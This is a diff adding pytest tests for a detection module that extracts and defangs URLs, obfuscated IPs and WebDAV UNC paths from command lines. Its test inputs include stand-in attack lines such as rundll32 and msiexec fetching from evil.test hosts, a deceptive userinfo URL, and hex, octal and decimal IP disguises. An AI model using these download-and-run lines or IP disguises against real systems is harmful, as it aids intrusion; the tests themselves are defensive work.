@@ -1,0 +1,60 @@
+"""Indicators: URLs the way a downloader reads them, IPs in disguise, UNC and WebDAV paths."""
+
+import pytest
+
+from app.detection.indicators import defang, find_unc_paths, find_urls, parse_ip, parse_url
+
+
+def test_userinfo_is_separated_from_the_real_host() -> None:
+    url = parse_url("https://sh.rustup.rs@evil.test/x.sh")
+    assert url is not None
+    assert url.host == "evil.test" and url.userinfo == "sh.rustup.rs"
+
+
+@pytest.mark.parametrize(
+    ("host", "dotted"),
+    [
+        ("192.0x00.2.1", "192.0.2.1"),
+        ("0xC0.0x00.0x02.0x01", "192.0.2.1"),
+        ("0300.0.02.01", "192.0.2.1"),
+        ("3221225985", "192.0.2.1"),
+        ("203.0.113.7", "203.0.113.7"),
+    ],
+)
+def test_ip_in_every_notation(host: str, dotted: str) -> None:
+    parsed = parse_ip(host)
+    assert parsed is not None and parsed[0] == dotted
+
+
+def test_names_are_not_ips() -> None:
+    assert parse_ip("example.com") is None
+    assert parse_ip("1.2.3.4.5") is None
+
+
+def test_defanged_and_backslash_urls_are_read() -> None:
+    (url,) = find_urls("rundll32 davclnt.dll,DavSetCookie hxxps://stage[.]example/x")
+    assert url.host == "stage.example" and url.defanged
+    (url,) = find_urls(r"msiexec -package http:\\evil.test\temp\x /q")
+    assert url.host == "evil.test" and url.backslashes
+
+
+def test_bare_hosts_after_downloaders_but_not_output_files() -> None:
+    hosts = [u.host for u in find_urls("irm get.scoop.sh | iex")]
+    assert hosts == ["get.scoop.sh"]
+    hosts = [u.host for u in find_urls("curl -fsSL https://get.docker.com -o get-docker.sh")]
+    assert hosts == ["get.docker.com"]
+
+
+def test_url_count_is_capped() -> None:
+    text = " ".join(f"https://h{i}.example/p" for i in range(10_000))
+    assert len(find_urls(text)) == 64
+
+
+def test_webdav_unc_paths() -> None:
+    (path,) = find_unc_paths(r"pushd \\files.evil.test@SSL\share\x & run")
+    assert path.host == "files.evil.test" and path.webdav
+
+
+def test_defang_makes_links_unclickable() -> None:
+    shown = defang("curl https://evil.test/x.sh")
+    assert "https://" not in shown and "hxxps://evil[.]test" in shown
